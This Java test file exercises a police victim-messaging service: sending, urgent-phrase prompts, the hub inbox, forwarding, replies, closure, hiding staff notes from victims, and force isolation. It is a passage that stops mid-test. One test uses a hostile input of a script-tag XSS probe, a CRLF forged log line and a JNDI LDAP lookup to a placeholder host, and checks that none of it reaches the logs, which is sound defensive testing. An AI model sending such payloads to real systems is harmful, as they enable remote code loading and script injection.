package org.trackmycrime.core.messaging;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.lang.reflect.RecordComponent;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.trackmycrime.core.LogCapture;
import org.trackmycrime.core.NotFoundException;
import org.trackmycrime.core.TrackMyCrime;
import org.trackmycrime.core.ValidationException;
import org.trackmycrime.core.internal.jdbi.Db;
import org.trackmycrime.core.model.Actor;
import org.trackmycrime.core.model.AuditAction;
import org.trackmycrime.core.model.AuditEvent;
import org.trackmycrime.core.model.Channel;
import org.trackmycrime.core.model.Crime;
import org.trackmycrime.core.model.Enrolment;
import org.trackmycrime.core.model.EnrolmentAction;
import org.trackmycrime.core.model.EnrolmentTransition;
import org.trackmycrime.core.model.Force;
import org.trackmycrime.core.model.ForceSettings;
import org.trackmycrime.core.model.MessageStatus;
import org.trackmycrime.core.model.Officer;
import org.trackmycrime.core.model.PropertyItem;
import org.trackmycrime.core.model.PropertyStatus;
import org.trackmycrime.core.model.Victim;
import org.trackmycrime.core.model.VictimMessage;
import org.trackmycrime.core.outbox.OutboxMessage;
import org.trackmycrime.notifications.DispatchConfig;
import org.trackmycrime.notifications.Dispatcher;
import org.trackmycrime.notifications.ForceMessaging;
import org.trackmycrime.notifications.SendResult;
import org.trackmycrime.testing.MutableClock;
import org.trackmycrime.testing.TmcDatabase;
import org.trackmycrime.testing.notifications.RecordingChannel;

/**
 * The messaging service with a settable clock, run unchanged on every supported database (each
 * subclass says which).
 */
abstract class AbstractMessagingTest {
  static final String FORCE = "demo-force";
  static final String OTHER = "other-force";
  static final String CRIME = "52/100/26";
  static final Actor HUB = Actor.staff("hub-op-7");
  static final Actor OFFICER = Actor.officer("4321");
  static final String NOTE = "NOTE-CANARY do not show the victim";

  abstract TmcDatabase db();

  TrackMyCrime tmc;
  Messaging messaging;
  MutableClock clock;

  @BeforeEach
  void setUp() {
    tmc = db().trackMyCrime();
    messaging = tmc.messaging();
    clock = db().clock();
    tmc.forces().save(new Force(FORCE, "Demo Police", ForceSettings.defaults()));
    tmc.forces().save(new Force(OTHER, "Other Police", ForceSettings.defaults()));
    crimeWithVictim(FORCE, CRIME, "V1");
    tmc.officers()
        .save(new Officer(FORCE, "4321", "DC Canary", "DC", "CID North", "dc@demo.example"));
    tmc.officers()
        .save(new Officer(FORCE, "5555", "DS Other", "DS", "CID South", "ds@demo.example"));
    tmc.property()
        .save(
            new PropertyItem(
                FORCE, CRIME, "P1", "Bicycle", PropertyStatus.STOLEN, null, clock.instant()));
  }

  void crimeWithVictim(String force, String crime, String victimRef) {
    Instant now = clock.instant();
    Victim v =
        Victim.builder(force, crime, victimRef)
            .name("Alex", "Canary")
            .email("alex@example.org")
            .enrolment(
                Enrolment.atRecording(false, now, OFFICER)
                    .apply(
                        new EnrolmentTransition(
                            EnrolmentAction.ASSESS_SUITABLE, now, OFFICER, null, List.of())))
            .build();
    Crime c =
        tmc.crimes()
            .find(force, crime)
            .orElse(Crime.recorded(force, crime, "Burglary", now).withOfficerRef("4321"));
    tmc.crimeService().record(c, List.of(v), OFFICER);
  }

  VictimMessage send(String body) {
    return messaging.send(NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, body));
  }

  List<OutboxMessage> outbox(String kind) {
    return tmc.outbox().forCrime(FORCE, CRIME).stream().filter(o -> o.kind().equals(kind)).toList();
  }

  List<AuditEvent> audit(String messageId) {
    return tmc.audit().forSubject(FORCE, "message", messageId);
  }

  static Consumer<Throwable> problems(String... fields) {
    return e ->
        assertThat(((ValidationException) e).problems())
            .extracting(ValidationException.Problem::field)
            .containsExactlyInAnyOrder(fields);
  }

  // ---- sending ----

  @Test
  void aSentMessageIsStoredReceivedWithItsTopicAndAudited() {
    VictimMessage m =
        messaging.send(
            NewVictimMessage.of(
                FORCE, CRIME, "V1", MessageTopic.FURTHER_INFORMATION, "  The van was white.  "));

    assertThat(m.status()).isEqualTo(MessageStatus.RECEIVED);
    assertThat(m.topic()).isEqualTo(MessageTopic.FURTHER_INFORMATION);
    assertThat(m.body()).isEqualTo("The van was white.");
    assertThat(m.urgent()).isFalse();
    assertThat(tmc.messages().find(FORCE, m.messageId())).contains(m);
    assertThat(audit(m.messageId()))
        .singleElement()
        .satisfies(
            a -> {
              assertThat(a.action()).isEqualTo(AuditAction.COLLECTION);
              assertThat(a.actor()).isEqualTo(Actor.victim("V1"));
              assertThat(a.crimeReference()).isEqualTo(CRIME);
              assertThat(a.detail()).doesNotContain("van");
            });
    MessageCase c = messaging.open(FORCE, m.messageId(), HUB);
    assertThat(c.history())
        .singleElement()
        .satisfies(
            h -> {
              assertThat(h.type()).isEqualTo(MessageAction.Type.SENT);
              assertThat(h.by()).isEqualTo(Actor.victim("V1"));
              assertThat(h.at()).isEqualTo(clock.instant());
            });
    assertThat(tmc.outbox().forCrime(FORCE, CRIME)).as("the hub reads its inbox").isEmpty();
  }

  @Test
  void urgentLookingTextIsRefusedUntilTheVictimAcknowledgesThePrompt() {
    NewVictimMessage m =
        NewVictimMessage.of(
            FORCE, CRIME, "V1", MessageTopic.QUESTION, "He is here again, outside my house");

    assertThatThrownBy(() -> messaging.send(m))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("body"))
        .hasMessageContaining("999")
        .hasMessageNotContaining("outside");
    assertThat(tmc.messages().listForCrime(FORCE, CRIME)).isEmpty();

    VictimMessage sent = messaging.send(m.acknowledgingUrgency());
    assertThat(sent.urgent()).isTrue();
    assertThat(messaging.open(FORCE, sent.messageId(), HUB).urgentPhrases())
        .containsExactly("he is here", "outside my house");
    assertThat(audit(sent.messageId()).get(0).detail()).contains("urgent");
  }

  @Test
  void anAcknowledgementOnCalmTextDoesNotFlagIt() {
    VictimMessage sent =
        messaging.send(
            NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, "Any news?")
                .acknowledgingUrgency());
    assertThat(sent.urgent()).isFalse();
  }

  @Test
  void everyBrokenRuleIsReportedWithItsField() {
    assertThatThrownBy(
            () ->
                messaging.send(new NewVictimMessage(FORCE, CRIME, "V1", null, "   ", null, false)))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("topic", "body"));
    assertThatThrownBy(() -> send("x".repeat(4001)))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("body"))
        .hasMessageContaining("4000");
    assertThat(send("  " + "x".repeat(4000) + "\n").body()).hasSize(4000);
    assertThatThrownBy(
            () ->
                messaging.send(
                    new NewVictimMessage(
                        FORCE,
                        CRIME,
                        "V1",
                        MessageTopic.QUESTION,
                        "Hello",
                        new PropertyDetails("P1", "SN1", null, null),
                        false)))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("propertyDetails"));
  }

  @Test
  void propertyDetailsNameAnItemOfTheCrime() {
    assertThatThrownBy(
            () ->
                messaging.send(
                    NewVictimMessage.of(
                        FORCE, CRIME, "V1", MessageTopic.PROPERTY_DETAILS, "Serial below")))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("propertyDetails"));
    assertThatThrownBy(
            () ->
                messaging.send(
                    new NewVictimMessage(
                        FORCE,
                        CRIME,
                        "V1",
                        MessageTopic.PROPERTY_DETAILS,
                        "Serial below",
                        new PropertyDetails("P9", "SN1", null, null),
                        false)))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("propertyDetails.itemRef"));

    PropertyDetails details = new PropertyDetails("P1", "WTU123", "Red frame, bell", 45_000L);
    VictimMessage m =
        messaging.send(
            new NewVictimMessage(
                FORCE,
                CRIME,
                "V1",
                MessageTopic.PROPERTY_DETAILS,
                "Details of my bike",
                details,
                false));

    assertThat(messaging.open(FORCE, m.messageId(), HUB).propertyDetails()).isEqualTo(details);
    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).propertyDetails())
        .isEqualTo(details);
  }

  @Test
  void onlyAnEnrolledVictimOfTheCrimeCanSend() {
    assertThatThrownBy(
            () ->
                messaging.send(
                    NewVictimMessage.of(FORCE, CRIME, "V9", MessageTopic.QUESTION, "Hello")))
        .isInstanceOf(NotFoundException.class);
    assertThatThrownBy(
            () ->
                messaging.send(
                    NewVictimMessage.of(OTHER, CRIME, "V1", MessageTopic.QUESTION, "Hello")))
        .isInstanceOf(NotFoundException.class);
    tmc.enrolment().optOut(FORCE, CRIME, "V1", Actor.victim("V1"), null);
    assertThatThrownBy(() -> send("Hello"))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("victimRef"));
  }

  @Test
  void aVictimMaySendALimitedNumberADay() {
    TrackMyCrime limited =
        TrackMyCrime.builder()
            .dataSource(db().dataSource())
            .clock(clock)
            .migrate(false)
            .messaging(MessagingConfig.builder().maxMessagesPerVictimPerDay(3).build())
            .build();
    NewVictimMessage m =
        NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, "Any news?");
    Instant first = clock.instant();
    limited.messaging().send(m);
    clock.advance(Duration.ofHours(1));
    limited.messaging().send(m);
    limited.messaging().send(m);

    assertThatThrownBy(() -> limited.messaging().send(m))
        .isInstanceOfSatisfying(
            MessagingException.class,
            e -> {
              assertThat(e.reason()).isEqualTo(MessagingException.Reason.RATE_LIMITED);
              assertThat(e.context())
                  .containsEntry("retryAfter", first.plus(Duration.ofDays(1)).toString());
            });
    assertThat(tmc.messages().listForCrime(FORCE, CRIME)).hasSize(3);

    clock.set(first.plus(Duration.ofDays(1)).plusSeconds(1));
    assertThat(limited.messaging().send(m).status()).isEqualTo(MessageStatus.RECEIVED);
  }

  // ---- the hub's inbox ----

  @Test
  void theInboxPutsUrgentFirstThenOldestWithHowLongEachWaited() {
    VictimMessage older = send("First question");
    clock.advance(Duration.ofMinutes(10));
    VictimMessage urgent =
        messaging.send(
            NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, "I am in danger")
                .acknowledgingUrgency());
    clock.advance(Duration.ofMinutes(10));
    VictimMessage newest = send("Second question");
    clock.advance(Duration.ofMinutes(5));

    List<InboxItem> inbox = messaging.hubInbox(FORCE);

    assertThat(inbox)
        .extracting(InboxItem::messageId)
        .containsExactly(urgent.messageId(), older.messageId(), newest.messageId());
    assertThat(inbox)
        .extracting(InboxItem::waited)
        .containsExactly(Duration.ofMinutes(15), Duration.ofMinutes(25), Duration.ofMinutes(5));
    assertThat(inbox.get(0).urgent()).isTrue();
    assertThat(inbox.get(0).kind()).isEqualTo(InboxItem.Kind.MESSAGE);
    assertThat(inbox.get(0).topic()).isEqualTo(MessageTopic.QUESTION);

    clock.advance(Duration.ofHours(2));
    assertThat(messaging.hubInbox(FORCE).get(1).waited()).isEqualTo(Duration.ofMinutes(145));
    assertThat(messaging.hubInbox(OTHER)).isEmpty();
  }

  @Test
  void unreachableVictimsAndDeadLettersAreInTheInbox() {
    Instant start = clock.instant();
    crimeWithVictim(FORCE, CRIME, "V2");
    Victim v2 = tmc.victims().find(FORCE, CRIME, "V2").orElseThrow();
    tmc.victims().save(v2.toBuilder().unreachableChannels(Set.of(Channel.EMAIL)).build());
    Db db = Db.of(tmc);
    db.useTransaction(
        "test",
        h -> {
          org.trackmycrime.core.internal.jdbi.JdbiOutbox.insertPending(
              h,
              FORCE,
              "hub|V2",
              OutboxMessage.HUB_VICTIM_UNREACHABLE,
              CRIME,
              "V2",
              null,
              null,
              start);
          org.trackmycrime.core.internal.jdbi.JdbiOutbox.insertPending(
              h, FORCE, "update|V1", OutboxMessage.VICTIM_UPDATE, CRIME, "V1", "e1", null, start);
          h.createUpdate(
                  "UPDATE tmc_outbox SET status = 'DEAD', dispatch_finished_at = :at"
                      + " WHERE idempotency_key = 'update|V1'")
              .bind("at", start.plus(Duration.ofMinutes(30)))
              .execute();
        });
    clock.advance(Duration.ofMinutes(20));
    VictimMessage m = send("A question");
    clock.advance(Duration.ofMinutes(40));

    List<InboxItem> inbox = messaging.hubInbox(FORCE);

    assertThat(inbox)
        .extracting(InboxItem::kind)
        .containsExactly(
            InboxItem.Kind.UNREACHABLE_VICTIM, InboxItem.Kind.MESSAGE, InboxItem.Kind.DEAD_LETTER);
    InboxItem unreachable = inbox.get(0);
    assertThat(unreachable.victimRef()).isEqualTo("V2");
    assertThat(unreachable.unreachableChannels()).containsExactly(Channel.EMAIL);
    assertThat(unreachable.waited()).isEqualTo(Duration.ofMinutes(60));
    assertThat(inbox.get(1).messageId()).isEqualTo(m.messageId());
    InboxItem dead = inbox.get(2);
    assertThat(dead.alertKind()).isEqualTo(OutboxMessage.VICTIM_UPDATE);
    assertThat(dead.outboxId())
        .isEqualTo(tmc.outbox().byStatus(FORCE, OutboxMessage.Status.DEAD, 10).get(0).id());
    assertThat(dead.waited()).isEqualTo(Duration.ofMinutes(30));
    assertThat(messaging.hubInbox(OTHER)).isEmpty();

    tmc.enrolment().optOut(FORCE, CRIME, "V2", Actor.victim("V2"), null);
    assertThat(messaging.hubInbox(FORCE))
        .as("a victim who opted out needs no follow-up")
        .extracting(InboxItem::kind)
        .doesNotContain(InboxItem.Kind.UNREACHABLE_VICTIM);
  }

  // ---- forwarding and reassigning ----

  @Test
  void forwardingPassesTheMessageToTheOfficerAndQueuesOneEmail() {
    VictimMessage m = send("Question for the officer");
    clock.advance(Duration.ofMinutes(3));

    VictimMessage f = messaging.forward(FORCE, m.messageId(), HUB, "4321", NOTE);

    assertThat(f.status()).isEqualTo(MessageStatus.FORWARDED);
    assertThat(f.assignedOfficerRef()).isEqualTo("4321");
    assertThat(tmc.messages().find(FORCE, m.messageId())).contains(f);
    assertThat(outbox(OutboxMessage.OFFICER_MESSAGE))
        .singleElement()
        .satisfies(
            o -> {
              assertThat(o.entryKey()).isEqualTo(m.messageId());
              assertThat(o.victimRef()).isEqualTo("V1");
              assertThat(o.officerRef()).isEqualTo("4321");
              assertThat(o.status()).isEqualTo(OutboxMessage.Status.PENDING);
              assertThat(o.createdAt()).isEqualTo(clock.instant());
            });
    assertThat(audit(m.messageId()))
        .filteredOn(a -> a.action() == AuditAction.DISCLOSURE)
        .singleElement()
        .satisfies(
            a -> {
              assertThat(a.actor()).isEqualTo(HUB);
              assertThat(a.detail()).contains("4321").doesNotContain("CANARY");
            });
    assertThat(messaging.hubInbox(FORCE)).isEmpty();
    assertThat(messaging.forOfficer(FORCE, "4321"))
        .singleElement()
        .satisfies(
            i -> {
              assertThat(i.messageId()).isEqualTo(m.messageId());
              assertThat(i.waited()).isEqualTo(Duration.ofMinutes(3));
            });
    assertThat(messaging.open(FORCE, m.messageId(), HUB).history())
        .extracting(MessageAction::type, MessageAction::officerRef, MessageAction::note)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(MessageAction.Type.SENT, null, null),
            org.assertj.core.groups.Tuple.tuple(MessageAction.Type.FORWARDED, "4321", NOTE));
  }

  @Test
  void forwardingIsRefusedWithoutAnOfficerOfTheForceOrWhenAlreadyForwarded() {
    VictimMessage m = send("Question");
    assertThatThrownBy(() -> messaging.forward(FORCE, m.messageId(), HUB, null, null))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("officerRef"));
    assertThatThrownBy(() -> messaging.forward(FORCE, m.messageId(), HUB, "9999", null))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("officerRef"));
    assertThatThrownBy(() -> messaging.forward(FORCE, m.messageId(), HUB, "4321", "x".repeat(2001)))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("note"));
    assertThat(tmc.messages().find(FORCE, m.messageId()).orElseThrow().status())
        .isEqualTo(MessageStatus.RECEIVED);
    assertThat(tmc.outbox().forCrime(FORCE, CRIME)).isEmpty();

    messaging.forward(FORCE, m.messageId(), HUB, "4321", null);
    assertThatThrownBy(() -> messaging.forward(FORCE, m.messageId(), HUB, "4321", null))
        .isInstanceOfSatisfying(
            MessagingException.class,
            e -> assertThat(e.reason()).isEqualTo(MessagingException.Reason.NOT_ALLOWED_IN_STATUS))
        .hasMessageContaining("FORWARDED");
    assertThat(outbox(OutboxMessage.OFFICER_MESSAGE)).as("one row per action").hasSize(1);
  }

  @Test
  void reassigningMovesTheMessageToAnotherOfficerOrAUnit() {
    VictimMessage m = send("Question");
    messaging.forward(FORCE, m.messageId(), HUB, "4321", null);

    VictimMessage moved =
        messaging.reassign(FORCE, m.messageId(), OFFICER, Assignee.officer("5555"), "on leave");
    assertThat(moved.assignedOfficerRef()).isEqualTo("5555");
    assertThat(messaging.forOfficer(FORCE, "4321")).isEmpty();
    assertThat(messaging.forOfficer(FORCE, "5555")).hasSize(1);
    assertThat(outbox(OutboxMessage.OFFICER_MESSAGE))
        .extracting(OutboxMessage::officerRef)
        .containsExactly("4321", "5555");
    assertThatThrownBy(
            () -> messaging.reassign(FORCE, m.messageId(), HUB, Assignee.officer("5555"), null))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("assignee"));

    VictimMessage toUnit =
        messaging.reassign(FORCE, m.messageId(), HUB, Assignee.unit("CID South"), null);
    assertThat(toUnit.assignedOfficerRef()).isNull();
    assertThat(toUnit.assignedUnit()).isEqualTo("CID South");
    assertThat(toUnit.status()).isEqualTo(MessageStatus.FORWARDED);
    assertThat(messaging.forOfficer(FORCE, "5555")).isEmpty();
    assertThat(messaging.forUnit(FORCE, "CID South"))
        .extracting(InboxItem::messageId)
        .containsExactly(m.messageId());
    assertThat(outbox(OutboxMessage.OFFICER_MESSAGE)).as("nobody to email for a unit").hasSize(2);
    assertThat(audit(m.messageId()))
        .filteredOn(a -> a.action() == AuditAction.DISCLOSURE)
        .hasSize(3);
    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).status())
        .isEqualTo(VictimStatus.FORWARDED_TO_OFFICER);
    assertThatThrownBy(() -> new Assignee("4321", "CID South"))
        .isInstanceOf(ValidationException.class);
  }

  @Test
  void theHubCanReassignStraightFromItsInbox() {
    VictimMessage m = send("Question");
    messaging.reassign(FORCE, m.messageId(), HUB, Assignee.officer("5555"), null);
    assertThat(messaging.hubInbox(FORCE)).isEmpty();
    assertThat(messaging.forOfficer(FORCE, "5555")).hasSize(1);
    assertThat(outbox(OutboxMessage.OFFICER_MESSAGE)).hasSize(1);
  }

  // ---- replying and closing ----

  @Test
  void aReplyReachesTheVictimThreadAndQueuesOneAlert() {
    VictimMessage m = send("When will I hear?");
    messaging.forward(FORCE, m.messageId(), HUB, "4321", NOTE);
    clock.advance(Duration.ofHours(2));
    Instant replyAt = clock.instant();

    VictimMessage replied =
        messaging.reply(FORCE, m.messageId(), OFFICER, "  We expect news on Friday.  ");

    assertThat(replied.status()).isEqualTo(MessageStatus.REPLIED);
    assertThat(replied.assignedOfficerRef()).as("still the officer's").isEqualTo("4321");
    assertThat(outbox(OutboxMessage.VICTIM_REPLY))
        .singleElement()
        .satisfies(
            o -> {
              assertThat(o.victimRef()).isEqualTo("V1");
              assertThat(o.officerRef()).isNull();
            });
    assertThat(messaging.reply(FORCE, m.messageId(), OFFICER, "We expect news on Friday."))
        .as("the same reply again is a retried request")
        .isEqualTo(replied);
    assertThat(outbox(OutboxMessage.VICTIM_REPLY)).hasSize(1);

    clock.advance(Duration.ofMinutes(1));
    messaging.reply(FORCE, m.messageId(), HUB, "And the hub adds this.");
    assertThat(outbox(OutboxMessage.VICTIM_REPLY)).hasSize(2);

    MessageThread thread = messaging.threadsForVictim(FORCE, CRIME, "V1").get(0);
    assertThat(thread.status()).isEqualTo(VictimStatus.REPLIED);
    assertThat(thread.replies())
        .containsExactly(
            new Reply("We expect news on Friday.", replyAt),
            new Reply("And the hub adds this.", replyAt.plus(Duration.ofMinutes(1))));
    assertThat(messaging.open(FORCE, m.messageId(), HUB).replies())
        .extracting(StaffReply::by)
        .containsExactly(OFFICER, HUB);
    assertThat(audit(m.messageId()))
        .filteredOn(a -> a.detail() != null && a.detail().startsWith("replied"))
        .hasSize(2)
        .allSatisfy(a -> assertThat(a.action()).isEqualTo(AuditAction.ALTERATION));
    assertThat(messaging.forOfficer(FORCE, "4321")).as("answered").isEmpty();
  }

  @Test
  void hostileTextIsKeptAsWrittenAndNeverLogged() {
    String hostile =
        "<script>alert('tmc-xss-marker')</script>\r\n2026-01-01 00:00:00 INFO FORGED-LOG-LINE"
            + " ${jndi:ldap://tmc-jndi-marker.example/a} <b>bold-marker</b>";
    List<VictimMessage> seen = new ArrayList<>();
    String log =
        LogCapture.during(
            () -> {
              VictimMessage m =
                  messaging.send(
                      NewVictimMessage.of(FORCE, CRIME, "V1", MessageTopic.QUESTION, hostile)
                          .acknowledgingUrgency());
              messaging.forward(FORCE, m.messageId(), HUB, "4321", "note " + hostile);
              messaging.reply(FORCE, m.messageId(), OFFICER, "reply " + hostile);
              seen.add(
                  messaging.close(
                      FORCE, m.messageId(), OFFICER, CloseReason.CONTACTED_DIRECTLY, hostile));
              seen.add(m);
            });

    assertThat(seen.get(1).body()).as("stored as written; pages escape it").isEqualTo(hostile);
    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).replies())
        .extracting(Reply::text)
        .containsExactly("reply " + hostile);
    assertThat(log)
        .doesNotContain("tmc-xss-marker")
        .doesNotContain("FORGED-LOG-LINE")
        .doesNotContain("tmc-jndi-marker")
        .doesNotContain("bold-marker");
  }

  @Test
  void noReplyAlertForAVictimWhoMayNotBeAlerted() {
    VictimMessage m = send("Question");
    tmc.enrolment().optOut(FORCE, CRIME, "V1", Actor.victim("V1"), null);

    messaging.reply(FORCE, m.messageId(), HUB, "Answer");

    assertThat(outbox(OutboxMessage.VICTIM_REPLY)).isEmpty();
    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).replies()).hasSize(1);
    assertThat(audit(m.messageId()))
        .extracting(AuditEvent::detail)
        .contains("replied; victim not alerted");
  }

  @Test
  void aClosedMessageShowsItsReasonAndTakesNoMoreActions() {
    VictimMessage m = send("Question");
    messaging.forward(FORCE, m.messageId(), HUB, "4321", null);
    clock.advance(Duration.ofDays(1));

    VictimMessage closed =
        messaging.close(FORCE, m.messageId(), OFFICER, CloseReason.CONTACTED_DIRECTLY, NOTE);

    assertThat(closed.status()).isEqualTo(MessageStatus.CLOSED);
    MessageThread thread = messaging.threadsForVictim(FORCE, CRIME, "V1").get(0);
    assertThat(thread.status()).isEqualTo(VictimStatus.CLOSED);
    assertThat(thread.closeReason()).isEqualTo(CloseReason.CONTACTED_DIRECTLY);
    assertThat(thread.updatedAt()).isEqualTo(clock.instant());
    assertThat(messaging.forOfficer(FORCE, "4321")).isEmpty();
    assertThat(messaging.open(FORCE, m.messageId(), HUB).closeReason())
        .isEqualTo(CloseReason.CONTACTED_DIRECTLY);

    for (Runnable refused :
        List.<Runnable>of(
            () -> messaging.reply(FORCE, m.messageId(), OFFICER, "Late reply"),
            () -> messaging.close(FORCE, m.messageId(), OFFICER, CloseReason.DUPLICATE, null),
            () -> messaging.forward(FORCE, m.messageId(), HUB, "5555", null),
            () -> messaging.reassign(FORCE, m.messageId(), HUB, Assignee.unit("CID"), null))) {
      assertThatThrownBy(refused::run)
          .isInstanceOfSatisfying(
              MessagingException.class,
              e ->
                  assertThat(e.reason()).isEqualTo(MessagingException.Reason.NOT_ALLOWED_IN_STATUS))
          .hasMessageContaining("CLOSED");
    }
    assertThat(outbox(OutboxMessage.VICTIM_REPLY)).isEmpty();
    assertThatThrownBy(() -> messaging.close(FORCE, send("x").messageId(), HUB, null, null))
        .isInstanceOf(ValidationException.class)
        .satisfies(problems("reason"));
  }

  @Test
  void aRepliedMessageCanBeClosedButNotForwarded() {
    VictimMessage m = send("Question");
    messaging.reply(FORCE, m.messageId(), HUB, "Answer");
    assertThatThrownBy(() -> messaging.forward(FORCE, m.messageId(), HUB, "4321", null))
        .isInstanceOf(MessagingException.class);
    assertThatThrownBy(
            () -> messaging.reassign(FORCE, m.messageId(), HUB, Assignee.officer("4321"), null))
        .isInstanceOf(MessagingException.class);
    assertThat(
            messaging.close(FORCE, m.messageId(), HUB, CloseReason.NO_REPLY_NEEDED, null).status())
        .isEqualTo(MessageStatus.CLOSED);
  }

  @Test
  void theVictimNeverSeesNotesOrStaff() {
    VictimMessage m = send("Question");
    messaging.forward(FORCE, m.messageId(), HUB, "4321", NOTE);
    messaging.reassign(FORCE, m.messageId(), HUB, Assignee.officer("5555"), NOTE);
    messaging.reply(FORCE, m.messageId(), Actor.officer("5555"), "Answer");
    messaging.close(FORCE, m.messageId(), HUB, CloseReason.NO_REPLY_NEEDED, NOTE);

    List<MessageThread> threads = messaging.threadsForVictim(FORCE, CRIME, "V1");

    List<String> shown = new ArrayList<>();
    collectText(threads, shown);
    assertThat(shown).isNotEmpty().contains("Question", "Answer");
    assertThat(shown)
        .noneMatch(s -> s.contains("CANARY"))
        .noneMatch(s -> s.contains("hub-op-7"))
        .noneMatch(s -> s.contains("DC Canary"))
        .noneMatch(s -> s.contains("DS Other"));
    assertThat(tmc.audit().forSubject(FORCE, "victim", "V1"))
        .filteredOn(a -> a.action() == AuditAction.CONSULTATION)
        .singleElement()
        .satisfies(a -> assertThat(a.actor()).isEqualTo(Actor.victim("V1")));
  }

  /** Every string reachable from the value through records and lists. */
  private static void collectText(Object value, List<String> out) {
    if (value == null) {
      return;
    }
    if (value instanceof String s) {
      out.add(s);
    } else if (value instanceof Iterable<?> it) {
      it.forEach(v -> collectText(v, out));
    } else if (value instanceof Enum<?> e) {
      out.add(e.name());
    } else if (value.getClass().isRecord()) {
      for (RecordComponent c : value.getClass().getRecordComponents()) {
        try {
          collectText(c.getAccessor().invoke(value), out);
        } catch (ReflectiveOperationException e) {
          throw new IllegalStateException(e);
        }
      }
    } else {
      out.add(String.valueOf(value));
    }
  }

  @Test
  void threadsAreTheVictimsOwnNewestFirst() {
    crimeWithVictim(FORCE, CRIME, "V2");
    VictimMessage first = send("First");
    clock.advance(Duration.ofMinutes(1));
    VictimMessage second = send("Second");
    messaging.send(NewVictimMessage.of(FORCE, CRIME, "V2", MessageTopic.QUESTION, "Not yours"));

    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1"))
        .extracting(MessageThread::messageId)
        .containsExactly(second.messageId(), first.messageId());
    assertThat(messaging.threadsForVictim(FORCE, CRIME, "V1").get(0).status())
        .isEqualTo(VictimStatus.RECEIVED_BY_HUB);
    assertThatThrownBy(() -> messaging.threadsForVictim(OTHER, CRIME, "V1"))
        .isInstanceOf(NotFoundException.class);
  }

  // ---- through a real dispatcher ----

  Dispatcher dispatcher(RecordingChannel email) {
    return Dispatcher.builder()
        .trackMyCrime(tmc)
        .channel(email)
        .config(
            DispatchConfig.builder()
                .defaultMessaging(
                    ForceMessaging.builder("https://victims.example.org")
                        .staffPortalUrl("https://staff.example.org/tmc")
                        .build())
                .build())
        .build();
  }

  @Test
  void aForwardEmailsTheOfficerAndAReplyAlertsTheVictim() {
    RecordingChannel email = RecordingChannel.email();
    Dispatcher dispatcher = dispatcher(email);
    VictimMessage m = send("Private words about the case");

    messaging.forward(FORCE, m.messageId(), HUB, "4321", NOTE);
    dispatcher.runOnce();

    assertThat(email.received())
        .singleElement()
        .satisfies(
            o -> {
              assertThat(o.to()).isEqualTo("dc@demo.example");
              assertThat(o.templateKey()).isEqualTo(OutboxMessage.OFFICER_MESSAGE);
              assertThat(o.textBody())
                  .contains("https://staff.example.org/tmc")
                  .doesNotContain("Private words")
                  .doesNotContain("CANARY");
            });
    email.clear();

    messaging.reply(FORCE, m.messageId(), OFFICER, "Reply words for the victim");
    dispatcher.runOnce();

    assertThat(email.received())
        .singleElement()
        .satisfies(
            o -> {
              assertThat(o.to()).isEqualTo("alex@example.org");
              assertThat(o.templateKey()).isEqualTo(OutboxMessage.VICTIM_REPLY);
              assertThat(o.textBody())
                  .contains("https://victims.example.org")
                  .doesNotContain("Reply words");
            });
    assertThat(tmc.outbox().forCrime(FORCE, CRIME))
        .extracting(OutboxMessage::status)
        .containsOnly(OutboxMessage.Status.SENT);
    email.clear();
    dispatcher.runOnce();
    assertThat(email.received()).as("each action's message is sent once").isEmpty();
  }

  @Test
  void aVictimWhoseAddressFailsForGoodAppearsInTheInbox() {
    RecordingChannel email = RecordingChannel.email();
    Dispatcher dispatcher = dispatcher(email);
    VictimMessage m = send("Question");
    messaging.reply(FORCE, m.messageId(), HUB, "Answer");
    email.failNext(new SendResult.Permanent("550", "no such mailbox"));
    clock.advance(Duration.ofMinutes(1));

    dispatcher.runOnce();
    clock.advance(Duration.ofMinutes(9));

    assertThat(messaging.hubInbox(FORCE))
        .singleElement()
        .satisfies(
            i -> {
              assertThat(i.kind()).isEqualTo(InboxItem.Kind.UNREACHABLE_VICTIM);
              assertThat(i.victimRef()).isEqualTo("V1");
              assertThat(i.unreachableChannels()).containsExactly(Channel.EMAIL);
              assertThat(i.waited()).isEqualTo(Duration.ofMinutes(9));
            });
  }

  // ---- forces ----

  @Test
  void anotherForcesStaffFindNothing() {
    VictimMessage m = send("Question");
    Actor stranger = Actor.staff("other-hub-1");

    for (Runnable attempt :
        List.<Runnable>of(
            () -> messaging.open(OTHER, m.messageId(), stranger),
            () -> messaging.forward(OTHER, m.messageId(), stranger, "4321", null),
            () -> messaging.reassign(OTHER, m.messageId(), stranger, Assignee.unit("CID"), null),
            () -> messaging.reply(OTHER, m.messageId(), stranger, "Hello"),
            () -> messaging.close(OTHER, m.messageId(), stranger, CloseReason.DUPLICATE, null))) {
      assertThatThrownBy(attempt::run).isInstanceOf(NotFoundException.class);
    }
    assertThat(messaging.hubInbox(OTHER)).isEmpty();
    assertThat(messaging.forOfficer(OTHER, "4321")).isEmpty();
    assertThat(tmc.messages().find(FORCE, m.messageId()).orElseThrow().status())
        .isEqualTo(MessageStatus.RECEIVED);
